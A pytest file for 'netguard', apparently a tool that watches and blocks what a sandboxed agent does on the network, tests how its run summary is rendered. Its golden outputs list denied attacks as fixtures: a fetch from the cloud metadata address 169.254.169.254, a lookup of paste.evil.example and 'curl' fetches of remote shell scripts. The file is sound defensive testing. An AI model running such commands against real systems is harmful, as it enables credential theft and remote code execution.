"""The end of a run on one screen: golden texts for two runs, the bounds, and guests that write what they like."""

from __future__ import annotations

import random
import tracemalloc

import pytest

from netguard.core.acts import UNREAD
from netguard.views.group import ADDRESSES
from netguard.views.summary import LOOKUPS, ROOM, ROWS, Tally
from netguard.views.table import WIDE, Table, bar
from netguard.views.text import columns_of
from tests.views.runs import AUDIT_RUN, DRY_RUN, Record, code, connect, dns, hostile_record, line, native, started

TRAIL = "/home/ci/.local/state/netguard/01JD/trail.jsonl"

AUDIT_80 = """\
verdict  kind     destination            count  rule         asked by
denied   connect  169.254.169.254:80         1  metadata     agent.py:41
denied   dns      paste.evil.example         1  default      agent.py:55
denied   exec     curl -s http://evil.…      1  no-shell     agent.py:63
logged   connect  api.openai.com:443         3  audit        agent.py:12 ask
logged   exec     git clone ...              2  audit        agent.py:60 sources
logged   dns      pkg.test                   1  audit        agent.py:8 index
logged   connect  pkg.test:443               1  audit        agent.py:8 index
logged   dns      api.openai.com             1  audit        agent.py:12 ask
logged   listen   127.0.0.1:8000             1  audit        agent.py:70 serve
allowed           (no line of its own)   1,240  own-sockets
allowed           (no line of its own)       3  pypi
netguard: 1,255 decisions: 9 logged, 3 denied, 1,243 allowed silently
trail: /home/ci/.local/state/netguard/01JD/trail.jsonl
check: netguard verify /home/ci/.local/state/netguard/01JD/trail.jsonl
"""

AUDIT_120 = """\
verdict  kind     destination                              count  share       rule         asked by
denied   connect  169.254.169.254:80                           1  ▏           metadata     agent.py:41 fetch_token
denied   dns      paste.evil.example                           1  ▏           default      agent.py:55 Exfil.post
denied   exec     curl -s http://evil.example/x.sh             1  ▏           no-shell     agent.py:63
logged   connect  api.openai.com:443 (162.159.140.245 +1)      3  ▏           audit        agent.py:12 ask
logged   exec     git clone ...                                2  ▏           audit        agent.py:60 sources
logged   dns      pkg.test                                     1  ▏           audit        agent.py:8 index
logged   connect  pkg.test:443 (151.101.0.223)                 1  ▏           audit        agent.py:8 index
logged   dns      api.openai.com                               1  ▏           audit        agent.py:12 ask
logged   listen   127.0.0.1:8000                               1  ▏           audit        agent.py:70 serve
allowed           (no line of its own)                     1,240  █████████▉  own-sockets
allowed           (no line of its own)                         3  ▏           pypi
netguard: 1,255 decisions: 9 logged, 3 denied, 1,243 allowed silently
trail: /home/ci/.local/state/netguard/01JD/trail.jsonl
check: netguard verify /home/ci/.local/state/netguard/01JD/trail.jsonl
"""

DRY_80 = """\
netguard: TAMPER: trail.jsonl is 12 bytes longer than netguard made it
netguard: ALERT: 4 connections that no line of code announced
verdict     kind     destination                    count  rule     asked by
would deny  connect  [2001:db8::1]:53/udp               1  default  etl.py:9 ask
logged      dns      db.corp.example                    1  audit    etl.py:3
logged      connect  db.corp.example:5432               1  audit    etl.py:3
netguard: 3 decisions: 2 logged, 1 would have been denied
dry run: nothing was denied
"""


def tally(records: list[Record]) -> Tally:
    counted = Tally()
    for record in records:
        counted.add(record)
    return counted


def test_summary_at_80_columns() -> None:
    assert tally(AUDIT_RUN).render(80, False, trail=TRAIL) == AUDIT_80


def test_summary_at_120_columns_names_addresses_too() -> None:
    assert tally(AUDIT_RUN).render(120, False, trail=TRAIL) == AUDIT_120


def test_dry_run_says_that_nothing_was_denied_and_tampering_stands_on_top() -> None:
    assert tally(DRY_RUN).render(80, False) == DRY_80


def test_a_dry_run_without_denials_says_so_as_well() -> None:
    assert "nothing was denied" in Tally(dry_run=True).render(80, False)


def test_a_run_that_did_nothing_says_so() -> None:
    assert Tally().render(80, False) == (
        "netguard: no decisions: nothing asked for the network, a program or a credential file\n"
    )


def test_answers_belong_to_the_look_up_of_their_own_chain() -> None:
    """In a file of several runs or chains the same number stands for several look-ups."""
    counted = Tally()
    for run, chain in (("A", "1"), ("A", "2"), ("B", "1")):
        counted.add({**dns(f"{run}{chain}.example"), "run": run, "chain": chain, "seq": 1})
    for run, chain, address in (("B", "1", "192.0.2.3"), ("A", "1", "192.0.2.1"), ("A", "2", "192.0.2.2")):
        answers = {"answers": [address]}
        counted.add({"kind": "result", "of": 1, "run": run, "chain": chain, "dns": answers})
    found = {group.subject[0]: group.addresses for group in counted.groups.values()}
    assert found == {"A1.example": ["192.0.2.1"], "A2.example": ["192.0.2.2"], "B1.example": ["192.0.2.3"]}


@pytest.mark.parametrize("width", [40, 50, 60, 72, 80, 100, 120, 200, 1000])
@pytest.mark.parametrize("utf8", [True, False])
def test_no_row_is_wider_than_the_terminal(width: int, utf8: bool) -> None:
    lines = tally(AUDIT_RUN + DRY_RUN).render(width, False, utf8=utf8).splitlines()
    table = [row for row in lines if not row.startswith("netguard:")]
    assert all(columns_of(row) <= width for row in table)
    assert utf8 is False or any("169.254.169.254:80"[-9:] in row for row in table)
    assert utf8 or all(row.isascii() for row in lines)


def test_colours_only_when_asked_for() -> None:
    counted = tally(AUDIT_RUN + DRY_RUN)
    assert "\x1b" not in counted.render(80, False)
    painted = counted.render(80, True)
    assert "\x1b[1m\x1b[31mnetguard: TAMPER" in painted
    assert "\x1b[31mdenied" in painted
    assert all(row.count("\x1b[0m") <= 1 for row in painted.splitlines())
    bare = painted
    for ink in ("\x1b[0m", "\x1b[1m", "\x1b[2m", "\x1b[31m", "\x1b[32m", "\x1b[33m"):
        bare = bare.replace(ink, "")
    assert bare == counted.render(80, False)


def test_a_name_keeps_the_end_that_says_whose_it_is() -> None:
    name = "accounts.google.com.login.secure.session.evil.example"
    assert "evil.example" in tally([dns(name, "deny")]).render(80, False)


def test_more_rows_than_fit_are_folded_and_denials_leave_room_for_the_rest() -> None:
    noise = [dns(f"n{number}.example", "deny") for number in range(500)]
    real = [connect("files.example", "192.0.2.9", 443)]
    lines = tally(noise + real).render(100, False).splitlines()
    assert len(lines) < ROWS + 6
    assert any("files.example:443" in row for row in lines)
    assert any("481 more rows, 481 decisions: denied dns" in row for row in lines)


def test_frequent_rows_stand_first_within_a_verdict() -> None:
    text = tally([dns("once.example"), *[dns("often.example")] * 5, started("sh", verdict="deny")]).render(80, False)
    assert text.index("denied") < text.index("often.example") < text.index("once.example")


def test_a_flood_of_one_sort_leaves_room_for_the_others() -> None:
    counted = tally([dns(f"n{number}.example") for number in range(ROOM + 1000)])
    counted.add(connect("late.example", "192.0.2.9", 443))
    assert len(counted.groups) == ROOM + 1
    assert sum(group.count for group in counted.others.values()) == 1000
    assert f"{ROOM + 1001:,} decisions: {ROOM + 1001:,} logged" in counted.render(80, False)


def test_memory_is_bounded_whatever_the_guest_asks_for() -> None:
    counted = Tally()
    long = "x" * 60_000
    tracemalloc.start()
    for number in range(8_000):
        counted.add(line("file", "log", file={"path": f"{number}{long}"}, code={"file": long, "func": long}))
        counted.add({"kind": "count", "counts": {f"{number}{long}": 1}})
        counted.add({"kind": "alert", "why": long})
    used, _ = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert used < 8_000_000
    assert counted.totals().startswith("16,000 decisions")


def test_a_name_with_many_addresses_is_one_row_that_keeps_a_few() -> None:
    counted = tally([connect("cdn.example", f"192.0.2.{number}", 443) for number in range(100)])
    (group,) = counted.groups.values()
    assert (group.count, len(group.addresses)) == (100, ADDRESSES)


def test_look_ups_that_never_end_are_forgotten() -> None:
    counted = tally([{**dns("a.example"), "seq": number} for number in range(5 * LOOKUPS)])
    assert len(counted.lookups) <= LOOKUPS


def test_a_destination_too_long_to_keep_is_still_one_row() -> None:
    counted = tally([started("x" * 5000)] * 3 + [started("y" * 5000)])
    assert [group.count for group in counted.groups.values()] == [3, 1]


def test_counts_of_denials_are_no_grants() -> None:
    counted = tally([{"kind": "count", "rule": "noise", "verdict": "deny", "n": 7}])
    assert counted.totals() == "7 decisions: 7 denied"


def test_more_rules_and_alerts_than_fit_are_counted() -> None:
    rules = {"kind": "count", "counts": {f"rule-{number}": 1 for number in range(2000)}}
    text = tally([rules, *[{"kind": "alert", "why": "again"}] * 9]).render(80, False)
    assert "4 more tamper and alert lines are in the trail" in text
    assert "993 more rules with acts that left no line" in text
    assert "2,000 allowed silently" in text


def test_native_code_is_named_by_what_is_known_of_it() -> None:
    text = tally(
        [
            line("native", "log", native={"path": "/usr/lib/libc.so.6"}),
            line("native", "log", native={"symbol": "system"}),
            line("native", "log", event="ctypes.dlsym"),
            line("audit", "log", event="gc.get_objects"),
        ]
    ).render(80, False)
    assert all(word in text for word in ("/usr/lib/libc.so.6", " system ", "ctypes.dlsym", "gc.get_objects"))


def test_found_is_told_with_its_row_and_a_remark_is_not() -> None:
    quiet = tally([native("info")] * 3).render(100, False)
    assert "found" not in quiet
    assert "192.0.2.7:443 " in quiet
    told = tally([native("info"), native("medium"), native("medium")]).render(100, False)
    assert "192.0.2.7:443 found native " in told
    assert "\nnetguard: found native (medium) in 2 acts\n" in told
    for number in range(30):
        record = native("medium")
        record["findings"][0]["id"] = f"\x1b[2J{number}"
        assert "\x1b" not in tally([record] * 2).render(100, False)
    many = tally([{**native("medium"), "findings": [{"id": str(number)}]} for number in range(100)])
    assert len(many.found) < 20
    assert sum(many.found.values()) == 100


@pytest.mark.parametrize(
    ("wall", "seen"),
    [("on", "so seen by the wall alone"), ("partly: why", "so not seen"), ("off: why", "so not seen")],
)
def test_program_without_the_guard_is_seen_by_a_wall(wall: str, seen: str) -> None:
    first = {"kind": "coverage", "event": "run", "hooks": "off: not Python", "wall": wall}
    text = tally([first, started("curl", shim="off: not Python")]).render(80, False)
    assert f"started without the guard, {seen}: 1 not Python\n" in text
    assert tally([first]).blind is (wall != "on")


def test_programs_without_the_guard_are_counted_by_why() -> None:
    """Those that were let through; what a denied one would have been matters to nobody."""
    tally = Tally()
    for shim in ("on", "off: not Python", "off: not Python", "off: -I", ""):
        tally.add(started("x", shim=shim))
    tally.add(started("x", shim="off: -S", verdict="deny"))
    assert "started without the guard, so not seen: 2 not Python, 1 -I\n" in tally.render(80, False)
    for number in range(20):
        tally.add(started("x", shim=f"off: \x1b{number}"))
    assert len(tally.outside) <= 10
    assert "\x1b" not in tally.render(80, False)


def test_run_without_such_programs_does_not_speak_of_them() -> None:
    tally = Tally()
    tally.add(started("python3", shim="on"))
    assert "without the guard" not in tally.render(80, False)


@pytest.mark.parametrize("kind", ["dns", "connect", "http", "listen", "exec", "file", "native"])
def test_denial_of_what_could_not_be_read_is_a_denial(kind: str) -> None:
    """Its line describes nothing, because nothing in it could be trusted."""
    counted = tally([line(kind, "deny", "hostile-argument", why="no exact text", **UNREAD.get(kind, {}))] * 2)
    text = counted.render(80, False)
    assert text.splitlines()[1].split() == ["denied", kind, "(unreadable)", "2", "hostile-argument"]
    assert text.splitlines()[2] == "netguard: 2 decisions: 2 denied"
    assert len(text.splitlines()) == 3


@pytest.mark.parametrize("kind", ["dns", "connect", "http", "listen", "exec", "file"])
def test_decision_whose_line_lacks_its_object_is_counted(kind: str) -> None:
    text = tally([line(kind, "deny", "r")]).render(80, False)
    assert text.splitlines()[1].split() == ["denied", kind, "(unreadable)", "1", "r"]


@pytest.mark.parametrize(
    ("dst", "shown"),
    [
        ({"proto": "family-17"}, "family 17"),
        ({"proto": "udp"}, "(unreadable)"),
        ({"proto": "unix"}, "unix:(unnamed)"),
        ({"proto": "unix", "path": "@bus"}, "unix:@bus"),
    ],
)
def test_destination_without_an_address_is_named_by_what_it_is(dst: dict[str, str], shown: str) -> None:
    assert f" {shown} " in tally([line("connect", "log", dst=dst)]).render(80, False)


def test_denied_event_is_named() -> None:
    row = tally([line("audit", "deny", "guard", event="sys.addaudithook")]).render(80, False).splitlines()[1]
    assert row.split() == ["denied", "audit", "sys.addaudithook", "1", "guard"]


def test_program_that_is_no_python_is_not_said_to_have_asked_for_nothing() -> None:
    python = {"kind": "coverage", "event": "run", "hooks": "asked for"}
    other = {"kind": "coverage", "event": "run", "hooks": "off: not Python; what it starts is asked for"}
    child = {"kind": "coverage", "event": "process", "hooks": "on"}
    assert tally([python]).totals() == "no decisions: nothing asked for the network, a program or a credential file"
    blind = "no decisions: nothing was watched but the Python in it, and that asked for nothing"
    assert tally([other]).totals() == blind
    assert tally([other, child]).totals() == blind
    assert tally([other, dns("a.example")]).totals() == "1 decision: 1 logged"


def test_grants_that_are_no_rules_are_told_in_words() -> None:
    text = tally([{"kind": "count", "counts": {"connection": 4, "local": 2, "mine": 1}}]).render(80, False)
    assert [row.split(maxsplit=2)[:3] for row in text.splitlines()[1:4]] == [
        ["allowed", "http", "(its connection decided)      4  █████▋"],
        ["allowed", "dns", "(stays on this machine)       2  ██▊"],
        ["allowed", "(no", "line of its own)          1  █▍          mine"],
    ]
    assert "7 decisions: 7 allowed silently" in text


LONG_NAMES = [
    connect("docs.internal.example", "192.0.2.1", 8000, rule="documentation-server", code=code(19, "fetch")),
    started("/usr/bin/curl", "-fsS", "http://docs.internal.example:8000/helper.sh", verdict="deny", rule="no-programs",
            code=code(141, "install_every_helper_there_is")),
]  # fmt: skip


@pytest.mark.parametrize(
    ("width", "rows"),
    [
        (60, ["denied   exec     /usr/bin/curl -fsS …      1  no-programs",
              "logged   connect  …ternal.example:8000      1  documentatio…"]),
        (80, ["denied   exec     /usr/bin/curl -fsS htt…      1  no-programs       agent.py:141",
              "logged   connect  ….internal.example:8000      1  documentation-s…  agent.py:19"]),
        (100, ["denied   exec     /usr/bin/curl -fsS http://docs.in…      1  no-programs           agent.py:141",
               "logged   connect  docs.internal.example:8000              1  documentation-server  agent.py:19 fetch"]),
    ],
)  # fmt: skip
def test_width_goes_where_it_says_most(width: int, rows: list[str]) -> None:
    """A rule's name and the code's line before the end of a command; a function whole or not at all."""
    assert tally(LONG_NAMES).render(width, False).splitlines()[1:3] == rows


def test_line_of_code_outlives_the_name_of_its_file() -> None:
    record = dns("a.example", code={"file": "/job/a_module_with_a_very_long_name.py", "line": 1234, "func": "f"})
    assert "  …_long_name.py:1234\n" in tally([record, *AUDIT_RUN]).render(80, False)


def test_what_is_no_record_is_counted_as_such() -> None:
    counted = tally([{}, {"kind": "dns"}, {"kind": "dns", "verdict": "maybe", "dns": {"name": "x"}}, {"kind": []}])
    assert counted.unreadable == 4
    assert "4 records could not be read" in counted.render(80, False)


def test_the_hint_can_be_pasted_into_a_shell() -> None:
    last = tally([]).render(80, False, trail="/tmp/it's here/trail.jsonl").splitlines()[-1]
    assert last == "check: netguard verify '/tmp/it'\\''s here/trail.jsonl'"


# Bars


MIXED = [
    *[dns("often.example", code=code(3, "look"))] * 6,
    *[dns("less.example", code=code(3, "look"))] * 3,
    dns("once.example", "deny", rule="default", code=code(3, "look")),
]
MIXED_80 = """\
verdict  kind  destination    count  share       rule     asked by
denied   dns   once.example       1  █           default  agent.py:3 look
logged   dns   often.example      6  ██████      audit    agent.py:3 look
logged   dns   less.example       3  ███         audit    agent.py:3 look
netguard: 10 decisions: 9 logged, 1 denied
"""


WORDY = [
    connect("a-host-with-a-very-long-name.in-a-zone.example", "2606:4700:4700::1111", 443, code=code(19, "fetch_it")),
    *[started("/usr/bin/make", "all", "x" * 200, code=code(23, "build"))] * 3,
]


def test_bars_are_shares_of_all_decisions() -> None:
    assert tally(MIXED).render(80, False) == MIXED_80
    assert tally(MIXED).render(80, False, utf8=False) == MIXED_80.replace("█", "#")


def test_bars_have_the_colour_of_the_verdict() -> None:
    rows = tally(MIXED).render(80, True).splitlines()
    assert "  \x1b[31m█         \x1b[0m  default" in rows[1]
    assert "  \x1b[33m██████    \x1b[0m  audit" in rows[2]


@pytest.mark.parametrize(
    ("count", "utf8", "shown"),
    [
        (1_000, True, "██████████"),
        (999, True, "█████████▉"),
        (500, True, "█████"),
        (137, True, "█▎"),
        (13, True, "▏"),
        (1, True, "▏"),
        (2_000, True, "██████████"),
        (999, False, "##########"),
        (500, False, "#####"),
        (149, False, "#"),
        (150, False, "##"),
        (50, False, "#"),
        (49, False, "."),
        (1, False, "."),
    ],
)
def test_bar_is_linear_and_what_is_there_shows(count: int, utf8: bool, shown: str) -> None:
    assert bar(count, 1_000, 10, utf8) == shown


def test_bars_that_would_all_be_alike_are_left_out() -> None:
    assert "share" not in tally(MIXED[5:7]).render(80, False)
    assert "share" not in tally([*MIXED[:6]]).render(200, False)


@pytest.mark.parametrize("width", range(40, 201))
@pytest.mark.parametrize("records", [AUDIT_RUN, MIXED, DRY_RUN, WORDY], ids=["audit", "mixed", "dry", "wordy"])
def test_bars_take_nothing_from_what_stands_in_words(width: int, records: list[Record]) -> None:
    """Up to 99 columns the table is as it would be without; from there on, but for the ends of long commands."""
    counted = tally(records)
    with_bars = counted.render(width, False)
    plain = Table(width, False, True)
    plain.rows(counted.sections())
    table = [row for row in with_bars.splitlines() if not row.startswith(("netguard:", "dry run"))]
    assert max([columns_of(row) for row in table]) <= width
    if "share" in table[0]:
        at = table[0].index("share")
        bare = "".join([f"{(row[:at] + row[at + 12 :]).rstrip()}\n" for row in table])
        if width < WIDE:
            assert bare == "".join(plain.lines)
        for row, other in zip(bare.splitlines(), plain.lines, strict=True):
            words = 2 if " exec " in row else 99
            assert row.split()[-words:] == other.split()[-words:]  # of a command, the rule and the code line
    else:
        assert "".join([f"{row}\n" for row in table]) == "".join(plain.lines)


# Limits


def filled(*limits: object) -> Record:
    return {"kind": "count", "counts": {}, "limits": list(limits)}


def limit(fill: object, rule: str = "web", key: str = "") -> Record:
    return {"rule": rule, "limit": "connections 60/min per destination", "fill": fill, **({"key": key} if key else {})}


def test_limits_nearly_used_up_are_told_at_their_fullest() -> None:
    counted = tally([filled(limit(0.5, "low"), limit(0.79, "less")), filled(limit(0.8))])
    counted.add(filled(limit(0.97, key="a:1")))
    counted.add(filled(limit(0.85), limit(1.0, "full")))
    assert counted.render(80, False).splitlines()[1:] == [
        "limit used up: connections 60/min per destination, rule full",
        "limit 97% used: connections 60/min per destination, rule web, for a:1",
    ]


def test_more_limits_than_fit_are_counted() -> None:
    counted = tally([filled(*[limit(0.9, f"rule-{number}") for number in range(2_000)])])
    assert len(counted.limits) <= 1_000
    assert counted.render(80, False).splitlines()[-1] == "and 995 more limits nearly used up"


@pytest.mark.parametrize("odd", [7, "x", {}, limit("x"), limit(None), {"fill": 0.9}], ids=str)
def test_limit_that_is_none_is_counted_as_unreadable(odd: object) -> None:
    counted = tally([filled(odd)])
    assert (counted.unreadable, counted.limits) == (1, {})


@pytest.mark.parametrize("fill", [float("nan"), float("inf"), 1.01, -1, 10**400])
def test_limit_that_is_more_than_full_is_nothing(fill: float) -> None:
    assert tally([filled(limit(fill))]).limits == {}


def test_guests_words_in_a_limit_stay_on_its_line() -> None:
    text = tally([filled(limit(0.9, key="\x1b[2J\n" + "x" * 500))]).render(60, False)
    assert max(map(len, text.splitlines()[1:])) <= 60
    assert "\x1b" not in text


@pytest.mark.parametrize("seed", range(30))
def test_hostile_records_never_reach_the_terminal(seed: int) -> None:
    rng = random.Random(seed)
    counted = tally([hostile_record(rng) for _ in range(200)])
    for width in (40, 80, 120):
        for utf8 in (True, False):
            text = counted.render(width, False, utf8=utf8)
            assert all(row.isprintable() for row in text.split("\n"))
            assert utf8 or text.isascii()
            assert text.count("\n") < 2 * ROWS + 20
